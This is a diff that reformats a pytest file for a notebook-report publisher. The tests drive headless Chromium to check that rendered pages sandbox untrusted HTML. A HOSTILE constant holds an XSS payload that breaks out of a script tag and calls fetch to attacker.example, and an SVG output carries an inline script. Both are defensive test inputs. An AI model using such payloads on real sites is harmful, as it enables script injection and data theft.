@@ -17,9 +17,22 @@ from mlnb.publish.frames import render_report, viewer, viewer_name
 from mlnb.publish.pages import Facts, render
 
 CHROMIUM = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)
-pytestmark = pytest.mark.skipif(CHROMIUM is None, reason="chromium is not installed: apt-get install chromium")
-FLAGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking", "--disable-component-update",
-         "--disable-sync", "--disable-dev-shm-usage", "--remote-debugging-port=0", "--remote-allow-origins=*"]
+pytestmark = pytest.mark.skipif(
+    CHROMIUM is None, reason="chromium is not installed: apt-get install chromium"
+)
+FLAGS = [
+    "--headless",
+    "--no-sandbox",
+    "--disable-gpu",
+    "--disable-quic",
+    "--no-first-run",
+    "--disable-background-networking",
+    "--disable-component-update",
+    "--disable-sync",
+    "--disable-dev-shm-usage",
+    "--remote-debugging-port=0",
+    "--remote-allow-origins=*",
+]
 HOSTILE = "</script><img src=x onerror=window.attacked=1;document.title=`attacked`;fetch(`http://attacker.example/stolen`)>"
 
 
@@ -44,14 +57,28 @@ class Browser:
         self.proxy = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Refuse)
         self.thread = threading.Thread(target=self.proxy.serve_forever)
         self.thread.start()
-        proxy = [f"--proxy-server=127.0.0.1:{self.proxy.server_port}", "--proxy-bypass-list=<-loopback>", f"--user-data-dir={folder}"]
-        self.process = subprocess.Popen([CHROMIUM, *FLAGS, *proxy, "about:blank"], stderr=subprocess.PIPE, text=True)
-        port = next(m[1] for line in self.process.stderr if (m := re.search(r"listening on ws://127\.0\.0\.1:(\d+)", line)))
+        proxy = [
+            f"--proxy-server=127.0.0.1:{self.proxy.server_port}",
+            "--proxy-bypass-list=<-loopback>",
+            f"--user-data-dir={folder}",
+        ]
+        self.process = subprocess.Popen(
+            [CHROMIUM, *FLAGS, *proxy, "about:blank"], stderr=subprocess.PIPE, text=True
+        )
+        port = next(
+            m[1]
+            for line in self.process.stderr
+            if (m := re.search(r"listening on ws://127\.0\.0\.1:(\d+)", line))
+        )
         threading.Thread(target=self.process.stderr.read, daemon=True).start()
-        with urllib.request.build_opener(urllib.request.ProxyHandler({})).open(f"http://127.0.0.1:{port}/json") as reply:
+        with urllib.request.build_opener(urllib.request.ProxyHandler({})).open(
+            f"http://127.0.0.1:{port}/json"
+        ) as reply:
             tab = next(t for t in json.load(reply) if t["type"] == "page")
         self.timeout = websocket.WebSocketTimeoutException
-        self.socket = websocket.create_connection(tab["webSocketDebuggerUrl"], timeout=30, http_no_proxy=["127.0.0.1"])
+        self.socket = websocket.create_connection(
+            tab["webSocketDebuggerUrl"], timeout=30, http_no_proxy=["127.0.0.1"]
+        )
         self.numbers = itertools.count(1)
         self.contexts, self.requests, self.messages = {}, [], []
         for method in ("Runtime", "Log", "Network", "Page"):
@@ -60,7 +87,12 @@ class Browser:
 
     def send(self, method, session=None, **parameters):
         number = next(self.numbers)
-        self.socket.send(json.dumps({"id": number, "method": method, "params": parameters} | ({"sessionId": session} if session else {})))
+        self.socket.send(
+            json.dumps(
+                {"id": number, "method": method, "params": parameters}
+                | ({"sessionId": session} if session else {})
+            )
+        )
         return number
 
     def heard(self, event):
@@ -79,7 +111,12 @@ class Browser:
             case "Runtime.exceptionThrown":
                 self.messages.append(about["exceptionDetails"]["text"])
             case "Target.attachedToTarget":
-                for method in ("Runtime.enable", "Log.enable", "Network.enable", "Runtime.runIfWaitingForDebugger"):
+                for method in (
+                    "Runtime.enable",
+                    "Log.enable",
+                    "Network.enable",
+                    "Runtime.runIfWaitingForDebugger",
+                ):
                     self.send(method, about["sessionId"])
 
     def call(self, method, session=None, **parameters):
@@ -90,7 +127,9 @@ class Browser:
 
     def open(self, url, width=1280):
         self.contexts.clear(), self.requests.clear(), self.messages.clear(), self.asked.clear()
-        self.call("Emulation.setDeviceMetricsOverride", width=width, height=900, deviceScaleFactor=1, mobile=False)
+        self.call(
+            "Emulation.setDeviceMetricsOverride", width=width, height=900, deviceScaleFactor=1, mobile=False
+        )
         self.call("Page.navigate", url=url)
         self.until("document.readyState == 'complete'")
 
@@ -99,7 +138,9 @@ class Browser:
         self.call("Runtime.evaluate", expression="1")
         found = []
         for session, context in list(self.contexts):
-            answer = self.call("Runtime.evaluate", session, contextId=context, expression=expression, returnByValue=True)
+            answer = self.call(
+                "Runtime.evaluate", session, contextId=context, expression=expression, returnByValue=True
+            )
             found.append(answer.get("result", {}).get("value"))
         return found
 
@@ -112,7 +153,9 @@ class Browser:
 
     def fetched(self):
         "What the page and its frames asked of a network."
-        return [u for u in self.requests if not u.startswith(("file:", "data:", "blob:"))] + [u for u in self.asked if "attacker" in u]
+        return [u for u in self.requests if not u.startswith(("file:", "data:", "blob:"))] + [
+            u for u in self.asked if "attacker" in u
+        ]
 
     def close(self):
         self.socket.close()
@@ -146,7 +189,9 @@ def report_html():
 
         def window(shift):
             names = ["DE", HOSTILE, "<!--<script>", "a&b\u2028c"]
-            return pd.DataFrame({"amount": random.gamma(2, 50 + shift, 500), "country": random.choice(names, 500)})
+            return pd.DataFrame(
+                {"amount": random.gamma(2, 50 + shift, 500), "country": random.choice(names, 500)}
+            )
 
         return Report([DataDriftPreset()]).run(window(20), window(0)).get_html_str(as_iframe=False)
 
@@ -157,7 +202,9 @@ def site(tmp_path_factory, report_html):
     folder = tmp_path_factory.mktemp("site")
     (folder / "assets").mkdir()
     (folder / "runs").mkdir()
-    page, needs_viewer = render_report(report_html, "Drift report", [("index", "../index.html"), ("drift", None)], "../assets")
+    page, needs_viewer = render_report(
+        report_html, "Drift report", [("index", "../index.html"), ("drift", None)], "../assets"
+    )
     assert needs_viewer
     (folder / "assets" / viewer_name()).write_text(viewer(), encoding="utf-8")
     (folder / "runs" / "drift.html").write_text(page, encoding="utf-8")
@@ -174,13 +221,18 @@ def test_unprotected_attack_runs_and_is_seen_by_the_log(browser, site):
 
 def test_report_is_drawn_in_its_sandbox_and_the_attack_does_not_run(browser, site):
     browser.open((site / "runs" / "drift.html").as_uri())
-    browser.until("document.body.innerText.includes('Dataset Drift') && document.querySelectorAll('svg').length > 3")
+    browser.until(
+        "document.body.innerText.includes('Dataset Drift') && document.querySelectorAll('svg').length > 3"
+    )
     assert browser.everywhere("window.attacked === undefined") == [True, True]
     assert sorted(browser.everywhere("document.title")) == ["Drift report", "Report"]
     assert browser.everywhere("document.querySelectorAll('img[onerror], [src=x]').length") == [0, 0]
     assert set(browser.everywhere("window.origin")) == {"null"}
     assert browser.fetched() == []
-    assert sorted(u.rsplit("/", 1)[1] for u in browser.requests if u.startswith("file:")) == ["drift.html", viewer_name()]
+    assert sorted(u.rsplit("/", 1)[1] for u in browser.requests if u.startswith("file:")) == [
+        "drift.html",
+        viewer_name(),
+    ]
 
 
 def test_sandbox_refuses_storage_the_parent_and_every_way_out(browser, site):
@@ -201,9 +253,21 @@ def test_sandbox_refuses_storage_the_parent_and_every_way_out(browser, site):
     })()"""
     answers = []
     for session, context in list(browser.contexts):
-        answers.append(browser.call("Runtime.evaluate", session, contextId=context, expression=tries, awaitPromise=True, returnByValue=True, allowUnsafeEvalBlockedByCSP=False)["result"].get("value"))
+        answers.append(
+            browser.call(
+                "Runtime.evaluate",
+                session,
+                contextId=context,
+                expression=tries,
+                awaitPromise=True,
+                returnByValue=True,
+                allowUnsafeEvalBlockedByCSP=False,
+            )["result"].get("value")
+        )
     tried = json.loads(next(a for a in answers if a != "page"))
-    assert tried == dict.fromkeys(("storage", "cookie", "parent", "fetch", "eval", "script", "handler", "image"), "refused")
+    assert tried == dict.fromkeys(
+        ("storage", "cookie", "parent", "fetch", "eval", "script", "handler", "image"), "refused"
+    )
     time.sleep(0.5)
     assert [u for u in browser.asked if "attacker" in u] == []
 
@@ -217,17 +281,44 @@ def test_viewer_opened_by_itself_shows_a_sentence_and_no_data(browser, site):
 @pytest.mark.parametrize("width", [1280, 390])
 def test_page_fits_its_window_runs_nothing_and_asks_for_nothing(browser, tmp_path, width):
     row = "".join(f"<td>column {i} {HOSTILE}</td>" for i in range(40))
-    outputs = [{"output_type": "display_data", "metadata": {}, "data": {"text/html": f"<table class='dataframe'><tr>{row}</tr></table>"}},
-               {"output_type": "display_data", "metadata": {}, "data": {"image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg' width='2000' height='10'><script>top.attacked=1</script></svg>"}},
-               {"output_type": "stream", "name": "stdout", "text": "x" * 2000}]
-    cells = [{"cell_type": "markdown", "source": f"# Title {HOSTILE}\n\n{'verylongword' * 40} and $x^2$", "metadata": {}},
-             {"cell_type": "code", "source": "y = '" + "long" * 200 + "'", "metadata": {}, "outputs": outputs}]
-    facts = Facts("fraud", "train", "committed", run="20261123T152237483-4f2a", parameters={"p": "v" * 300}, metrics={"a_very_long_name_of_a_metric_" * 3: 1.5},
-                  outputs={"model": {"digest": "ab" * 32, "type": "sklearn.pipeline.Pipeline", "bytes": 1}})
+    outputs = [
+        {
+            "output_type": "display_data",
+            "metadata": {},
+            "data": {"text/html": f"<table class='dataframe'><tr>{row}</tr></table>"},
+        },
+        {
+            "output_type": "display_data",
+            "metadata": {},
+            "data": {
+                "image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg' width='2000' height='10'><script>top.attacked=1</script></svg>"
+            },
+        },
+        {"output_type": "stream", "name": "stdout", "text": "x" * 2000},
+    ]
+    cells = [
+        {
+            "cell_type": "markdown",
+            "source": f"# Title {HOSTILE}\n\n{'verylongword' * 40} and $x^2$",
+            "metadata": {},
+        },
+        {"cell_type": "code", "source": "y = '" + "long" * 200 + "'", "metadata": {}, "outputs": outputs},
+    ]
+    facts = Facts(
+        "fraud",
+        "train",
+        "committed",
+        run="20261123T152237483-4f2a",
+        parameters={"p": "v" * 300},
+        metrics={"a_very_long_name_of_a_metric_" * 3: 1.5},
+        outputs={"model": {"digest": "ab" * 32, "type": "sklearn.pipeline.Pipeline", "bytes": 1}},
+    )
     (tmp_path / "page.html").write_text(render({"cells": cells}, facts), encoding="utf-8")
     browser.open((tmp_path / "page.html").as_uri(), width)
     assert browser.everywhere("document.scrollingElement.scrollWidth <= innerWidth") == [True]
     assert browser.everywhere("getComputedStyle(document.querySelector('.state')).borderRadius") == ["16px"]
-    assert browser.everywhere("[...document.images].every(i => i.complete && (i.naturalWidth > 0 || !i.src))") == [True]
+    assert browser.everywhere(
+        "[...document.images].every(i => i.complete && (i.naturalWidth > 0 || !i.src))"
+    ) == [True]
     assert browser.everywhere("window.attacked === undefined") == [True]
     assert browser.fetched() == [] and browser.messages == []
